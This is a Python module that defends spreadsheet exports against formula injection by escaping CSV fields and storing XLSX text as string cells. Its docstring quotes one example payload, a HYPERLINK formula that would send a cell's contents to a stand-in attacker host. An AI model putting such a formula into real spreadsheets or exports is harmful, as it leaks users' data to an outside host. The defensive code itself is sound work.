"""Putting untrusted text into spreadsheet cells without it turning into something else.

Exports echo values from uploaded files (SECURITY.md F16). A spreadsheet program treats a CSV
field that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a
formula, so ``=HYPERLINK("https://evil.example?"&A1)`` would run in the helpdesk's Excel. Rules:

- **CSV**: a field whose first non-blank character is a trigger gets a leading ``'`` (OWASP's
  advice); the csv writer quotes every field. The ``'`` stays visible in Excel: a small price.
- **XLSX**: every text is written as a string cell (``data_type = "s"``, an inline string in the
  XML), never as a formula, and a risky text also gets Excel's "quote prefix" style so that
  editing the cell later does not turn it into a formula either. The text itself is unchanged.

XLSX cannot hold every character: XML 1.0 forbids most control characters, and Excel reads
``_xHHHH_`` as an escaped character (and a bare CR would come back as LF). ``xlsx_text`` writes
them the way Excel itself does (``_x000D_``), so
what comes back is what went in; texts beyond Excel's 32,767 characters are cut.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
"""Leading characters that make a spreadsheet program read a field as a formula (with their
full-width forms, which some input methods turn into the ASCII ones)."""

EXCEL_MAX_CHARS = 32_767
"""The most characters one Excel cell holds."""

# Characters XML 1.0 cannot carry (openpyxl refuses them), and CR, which an XML parser turns into LF.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\r\x0e-\x1f\ufffe\uffff]")
_EXCEL_ESCAPE = re.compile("_(x[0-9A-Fa-f]{4}_)")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet program could read ``text`` as a formula."""
    if not text:
        return False
    if text[0] in FORMULA_TRIGGERS:
        return True
    stripped = text.lstrip(" \u00a0")
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def csv_field(text: str) -> str:
    """A CSV field that no spreadsheet program evaluates: risky texts get a leading ``'``."""
    return "'" + text if looks_like_formula(text) else text


def xlsx_text(text: str, limit: int = EXCEL_MAX_CHARS) -> str:
    """``text`` as it must be stored in an xlsx cell so that Excel shows exactly ``text``.

    A literal ``_x0041_`` is escaped as ``_x005F_x0041_`` (Excel would show ``A`` otherwise) and a
    control character as ``_x0001_``. Texts longer than Excel allows are cut, ending in ``…``.
    """
    if len(text) > limit:
        text = text[: limit - 1] + "…"
    if "_x" in text:
        text = _EXCEL_ESCAPE.sub(r"_x005F_\1", text)
    if _XML_ILLEGAL.search(text):
        text = _XML_ILLEGAL.sub(lambda match: f"_x{ord(match.group()):04X}_", text)
    return text


def set_text(cell: Any, text: str, *, number_format: str | None = "@") -> None:
    """Write ``text`` into an openpyxl cell as a string cell, never a formula.

    openpyxl turns any string starting with ``=`` into a formula on assignment; setting
    ``data_type`` afterwards makes the writer store an inline string instead. ``number_format``
    ``@`` (Text) keeps Excel from reinterpreting the value when someone edits it.
    """
    cell.value = xlsx_text(text)
    cell.data_type = "s"
    if number_format is not None:
        cell.number_format = number_format
    if looks_like_formula(text):
        cell.quotePrefix = True
